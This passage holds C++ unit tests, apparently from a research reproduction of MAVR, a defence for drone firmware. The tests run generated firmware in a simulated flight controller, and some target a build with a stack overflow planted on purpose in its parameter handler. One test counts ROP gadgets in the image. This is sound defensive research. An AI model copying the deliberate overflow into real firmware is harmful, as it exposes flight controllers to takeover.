      firmware::generate(firmware::testapp(true), ToolchainOptions::mavr());
  EXPECT_EQ(a.image.bytes, b.image.bytes);
  EXPECT_EQ(a.image.function_count(), b.image.function_count());
}

TEST(Generator, SeedChangesTheBinary) {
  AppProfile p = firmware::testapp(true);
  const Firmware a = firmware::generate(p, ToolchainOptions::mavr());
  p.seed ^= 1;
  const Firmware b = firmware::generate(p, ToolchainOptions::mavr());
  EXPECT_NE(a.image.bytes, b.image.bytes);
}

class PaperProfiles : public ::testing::TestWithParam<int> {
 protected:
  static AppProfile profile(int index) {
    switch (index) {
      case 0: return firmware::arduplane();
      case 1: return firmware::arducopter();
      default: return firmware::ardurover();
    }
  }
};

TEST_P(PaperProfiles, HitsTable1FunctionCount) {
  const AppProfile p = profile(GetParam());
  const Firmware fw = firmware::generate(p, ToolchainOptions::mavr());
  EXPECT_EQ(fw.image.function_count(), p.function_count);
}

TEST_P(PaperProfiles, HitsTable3MavrSize) {
  const AppProfile p = profile(GetParam());
  const Firmware fw = firmware::generate(p, ToolchainOptions::mavr());
  EXPECT_EQ(fw.image.size_bytes(), p.target_image_bytes);
}

TEST_P(PaperProfiles, StockBuildSlightlyLarger) {
  const AppProfile p = profile(GetParam());
  const Firmware mavr_fw = firmware::generate(p, ToolchainOptions::mavr());
  const Firmware stock_fw = firmware::generate(p, ToolchainOptions::stock());
  const std::int64_t delta =
      static_cast<std::int64_t>(stock_fw.image.size_bytes()) -
      static_cast<std::int64_t>(mavr_fw.image.size_bytes());
  // Paper deltas: +314 / +240 / +314 bytes. Require the same sign and
  // magnitude band.
  EXPECT_GT(delta, 100);
  EXPECT_LT(delta, 600);
}

TEST_P(PaperProfiles, BootsAndFeeds) {
  const Firmware fw =
      firmware::generate(profile(GetParam()), ToolchainOptions::mavr());
  sim::Board board;
  board.flash_image(fw.image.bytes);
  board.run_cycles(2'000'000);
  EXPECT_EQ(board.cpu().state(), avr::CpuState::Running)
      << board.cpu().fault().reason;
  EXPECT_GT(board.feed_line().write_count(), 10u);
}

TEST_P(PaperProfiles, ProvidesThePaperGadgets) {
  const Firmware fw =
      firmware::generate(profile(GetParam()), ToolchainOptions::mavr());
  attack::GadgetFinder finder(fw.image);
  // Same order of magnitude as the paper's 953.
  EXPECT_GT(finder.census().total(), 500u);
  EXPECT_LT(finder.census().total(), 2500u);
  EXPECT_GT(finder.census().stk_move_gadgets, 10u);
  EXPECT_GT(finder.census().write_mem_gadgets, 4u);
}

INSTANTIATE_TEST_SUITE_P(All, PaperProfiles, ::testing::Values(0, 1, 2));

TEST(Generator, SafeBuildClampsTheOverflow) {
  // With the length check present (the paper's un-tampered firmware), an
  // oversized PARAM_SET must NOT smash the stack.
  const Firmware fw =
      firmware::generate(firmware::testapp(/*vulnerable=*/false),
                         ToolchainOptions::mavr());
  sim::Board board;
  board.flash_image(fw.image.bytes);
  board.run_cycles(300'000);
  sim::GroundStation gcs(board);
  support::Bytes payload(200, 0xA5);  // would overflow the 96-byte buffer
  gcs.send_raw_param_set(payload);
  board.run_cycles(5'000'000);
  EXPECT_EQ(board.cpu().state(), avr::CpuState::Running);
  const std::uint64_t feeds = board.feed_line().write_count();
  board.run_cycles(500'000);
  EXPECT_GT(board.feed_line().write_count(), feeds);  // still flying
}

TEST(Generator, VulnerableBuildDiffersOnlySlightly) {
  const Firmware safe = firmware::generate(firmware::testapp(false),
                                           ToolchainOptions::mavr());
  const Firmware vuln = firmware::generate(firmware::testapp(true),
                                           ToolchainOptions::mavr());
  // Same function population; the handler shrinks by the length check.
  EXPECT_EQ(safe.image.function_count(), vuln.image.function_count());
  const toolchain::Symbol* hs = safe.image.find("h_param_set");
  const toolchain::Symbol* hv = vuln.image.find("h_param_set");
  ASSERT_NE(hs, nullptr);
  ASSERT_NE(hv, nullptr);
  EXPECT_GT(hs->size, hv->size);
}

TEST(Generator, TaskTableContainsMidFunctionEntries) {
  const Firmware fw = firmware::generate(firmware::testapp(true),
                                         ToolchainOptions::mavr());
  // At least one task-table pointer must target a mid-function address —
  // the case that forces the patcher's binary search (paper §VI-B3).
  bool mid_found = false;
  for (const toolchain::PointerSlot& slot : fw.image.pointer_slots) {
    const std::uint32_t lo =
        support::load_u16_le(fw.image.bytes, slot.image_offset);
    const std::uint32_t word =
        lo | (slot.width == 3
                  ? (static_cast<std::uint32_t>(
                         fw.image.bytes[slot.image_offset + 2])
                     << 16)
                  : 0);
    const toolchain::Symbol* fn = fw.image.function_containing(word * 2);
    ASSERT_NE(fn, nullptr);
    if (word * 2 != fn->addr) mid_found = true;
  }
  EXPECT_TRUE(mid_found);
}

TEST(Generator, TelemetryCrcMatchesHostCrc) {
  // The firmware's hand-rolled assembly CRC must agree with the host
  // implementation: the ground station accepted packets in other tests,
  // but verify explicitly against a crafted state.
  const Firmware fw = firmware::generate(firmware::testapp(true),
                                         ToolchainOptions::mavr());
  sim::Board board;
  board.flash_image(fw.image.bytes);
  board.set_gyro(0, 0x1234);
  board.set_acc(2, -999);
  sim::GroundStation gcs(board);
  board.run_cycles(4'000'000);
  gcs.poll();
  ASSERT_TRUE(gcs.last_imu().has_value());
  EXPECT_EQ(gcs.last_imu()->xgyro, 0x1234);
  EXPECT_EQ(gcs.last_imu()->zacc, -999);
  EXPECT_EQ(gcs.garbage_bytes(), 0u);
}

TEST(Generator, ProfileTooSmallRejected) {
  AppProfile p = firmware::testapp(true);
  p.function_count = 20;
  EXPECT_THROW(firmware::generate(p, ToolchainOptions::mavr()),
               support::PreconditionError);
}

}  // namespace
}  // namespace mavr
