// End-to-end smoke tests: generated firmware must boot on the simulated
// board, run its flight loop, feed the watchdog line, answer MAVLink and
// stream parseable telemetry.
#include <gtest/gtest.h>

#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

namespace mavr {
namespace {

using firmware::Globals;

class BootTest : public ::testing::Test {
 protected:
  firmware::Firmware fw_ = firmware::generate(
      firmware::testapp(/*vulnerable=*/true),
      toolchain::ToolchainOptions::mavr());
  sim::Board board_;

  void flash_and_boot() {
    board_.flash_image(fw_.image.bytes);
    board_.run_cycles(200'000);  // boot + a few loop iterations
  }

  std::uint16_t ram_addr(const char* name) {
    const toolchain::DataSymbol* sym = fw_.image.find_data(name);
    EXPECT_NE(sym, nullptr) << name;
    return sym->ram_addr;
  }

  std::uint8_t ram(const char* name, std::uint16_t off = 0) {
    return board_.cpu().data().raw(ram_addr(name) + off);
  }
};

TEST_F(BootTest, BootsAndKeepsRunning) {
  flash_and_boot();
  EXPECT_EQ(board_.cpu().state(), avr::CpuState::Running)
      << "fault: " << board_.cpu().fault().reason << " at pc 0x" << std::hex
      << board_.cpu().fault().pc_words * 2;
  EXPECT_GT(board_.cpu().instructions_retired(), 1000u);
}

TEST_F(BootTest, FeedsTheWatchdogLine) {
  flash_and_boot();
  const std::uint64_t feeds_before = board_.feed_line().write_count();
  board_.run_cycles(200'000);
  EXPECT_GT(board_.feed_line().write_count(), feeds_before + 5);
}

TEST_F(BootTest, ControlLoopTracksGyro) {
  flash_and_boot();
  board_.set_gyro(0, 0);
  board_.run_cycles(100'000);
  const std::uint8_t neutral = board_.servo(0).value();
  EXPECT_EQ(neutral, 128);  // zero error → neutral command

  board_.set_gyro(0, 400);  // rolling right → servo must counteract
  board_.run_cycles(100'000);
  const std::uint8_t correcting = board_.servo(0).value();
  EXPECT_LT(correcting, 128);
}

TEST_F(BootTest, SendsParseableTelemetry) {
  flash_and_boot();
  sim::GroundStation gcs(board_);
  board_.set_gyro(0, 123);
  board_.run_cycles(3'000'000);
  gcs.poll();
  ASSERT_TRUE(gcs.last_imu().has_value());
  EXPECT_EQ(gcs.last_imu()->xgyro, 123);
  EXPECT_EQ(gcs.garbage_bytes(), 0u);
}

TEST_F(BootTest, HandlesHeartbeat) {
  flash_and_boot();
  sim::GroundStation gcs(board_);
  EXPECT_EQ(ram(Globals::kHbCount), 0);
  gcs.send_heartbeat();
  board_.run_cycles(1'000'000);
  EXPECT_EQ(ram(Globals::kHbCount), 1);
  gcs.send_heartbeat();
  board_.run_cycles(1'000'000);
  EXPECT_EQ(ram(Globals::kHbCount), 2);
}

TEST_F(BootTest, ParamSetWithinBoundsIsApplied) {
  flash_and_boot();
  sim::GroundStation gcs(board_);
  mavlink::ParamSet set;
  set.param_value = 1.0f;  // 0x3F800000
  gcs.send_param_set(set);
  board_.run_cycles(1'500'000);
  EXPECT_EQ(board_.cpu().state(), avr::CpuState::Running);
  // Little-endian float bits land in g_params[0..3].
  EXPECT_EQ(ram(Globals::kParams, 0), 0x00);
  EXPECT_EQ(ram(Globals::kParams, 3), 0x3F);
}

TEST_F(BootTest, FunctionCountMatchesProfile) {
  EXPECT_EQ(fw_.image.function_count(), fw_.profile.function_count);
}

TEST_F(BootTest, ImageHasSymbolsAndPointerSlots) {
  EXPECT_FALSE(fw_.image.pointer_slots.empty());
  EXPECT_TRUE(fw_.image.ldi_code_pointers.empty());  // MAVR flags
  const toolchain::Symbol* main_sym = fw_.image.find("main");
  ASSERT_NE(main_sym, nullptr);
  EXPECT_GT(main_sym->size, 0u);
}

}  // namespace
}  // namespace mavr
